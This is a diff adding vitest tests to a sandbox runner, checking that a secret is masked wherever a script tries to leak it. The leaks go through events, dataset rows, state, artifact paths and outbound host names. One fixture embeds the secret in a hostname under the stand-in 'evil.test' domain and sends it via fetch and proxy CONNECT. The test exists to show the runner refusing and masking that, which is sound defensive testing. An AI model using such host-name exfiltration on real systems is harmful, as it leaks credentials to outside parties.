@@ -1,4 +1,4 @@
-import { afterAll, beforeAll, expect, test } from 'vitest';
+import { afterAll, beforeAll, describe, expect, test } from 'vitest';
 
 import { AddressRules } from '#runner/egress/addresses';
 
@@ -89,6 +89,76 @@ test.each(['long', 'nonsense'])(
     expect(end.outcome.state).toBe('failed');
   },
 );
+
+describe('a value that can be a name is masked as one:', () => {
+  const NAME = 'Correct-Horse.9';
+  const TRACE = /orrect-?h|Q29ycmVjd|q29ycmvjd/i;
+  const leaking = (body: string) => ({
+    'main.mjs': `import { writeSync } from 'node:fs';
+import net from 'node:net';
+export default async (input, soma) => { const secret = soma.secret('KEY'); ${body}; return null; };`,
+  });
+
+  test('events, rows, keys and values of the state', async () => {
+    const files = leaking(`soma.event('e ' + secret, { [secret]: secret });
+      soma.dataset('rows').push({ [secret]: [secret] });
+      soma.state.set(secret, secret);
+      soma.state.set('kept', { [secret]: 1 });
+      soma.state.delete('old' + secret)`);
+    const { spoolText, frames, claims, end } = await world.run(files, {
+      secrets: { KEY: NAME },
+      datasets: ['rows'],
+      state: { revision: 1, entries: {} },
+    });
+    expect(end.outcome.state).toBe('succeeded');
+    expect(`${spoolText}${JSON.stringify(claims)}`).not.toMatch(TRACE);
+    const said = frames.filter(({ kind }) => ['event', 'row', 'state'].includes(kind));
+    expect(said).toMatchObject([
+      { kind: 'event', name: 'e ***', data: { '***': '***' } },
+      { kind: 'row', dataset: 'rows', data: { '***': ['***'] } },
+      { kind: 'state', change: { key: '***', value: '***' } },
+      { kind: 'state', change: { key: 'kept', value: { '***': 1 } } },
+      { kind: 'state', change: { key: 'old***', isDeleted: true } },
+    ]);
+  });
+
+  test.each([
+    [
+      'a data set it may not fill',
+      `writeSync(3, JSON.stringify({ dataset: secret, row: 1 }) + '\\n')`,
+      'output_invalid',
+    ],
+    ['a meter it does not have', 'soma.usage(secret, 1)', 'meter_limit'],
+    ['a file in /out', `soma.artifact(secret, 'x')`, 'artifact_invalid'],
+    ['a folder in /out', `soma.artifact('a/' + secret + '/b', 'x')`, 'artifact_invalid'],
+  ])('%s', async (_, body, cause) => {
+    const { spoolText, claims, end, left } = await world.run(leaking(body), {
+      secrets: { KEY: NAME },
+      artifacts: true,
+    });
+    expect(`${spoolText}${JSON.stringify(claims)}`).not.toMatch(TRACE);
+    expect([end.outcome.cause, left]).toEqual([cause, {}]);
+  });
+
+  test('hosts it tries to reach, whose names are written in small letters', async () => {
+    const files = leaking(`const tried = [secret + '.evil.test:443', 'x'.repeat(250) + secret];
+      await fetch('https://' + secret + '.evil.test/').catch(() => undefined);
+      for (const target of tried) await new Promise((resolve) => {
+        const socket = net.connect('/run/soma/egress', () => socket.write('CONNECT ' + target + ' HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n'));
+        socket.on('data', () => socket.destroy()).on('close', resolve);
+      })`);
+    const { spoolText, claims, egress } = await world.run(files, { secrets: { KEY: NAME }, egress: ['a.test:443'] });
+    expect(`${spoolText}${JSON.stringify(claims)}`).not.toMatch(TRACE);
+    expect(egress?.rows.map(({ target, refusal }) => [target, refusal])).toEqual([
+      ['***.evil.test:443', 'not_granted'],
+      [`${'x'.repeat(250)}***`, 'malformed'],
+    ]);
+    expect(claims.egress?.targets.map(({ target, refused }) => [target, refused])).toContainEqual([
+      '***.evil.test:443',
+      2,
+    ]);
+  });
+});
 
 test('output that is cut off at its limit in a secret does not show its beginning', async () => {
   const secret = 'abcdefghij'.repeat(100);
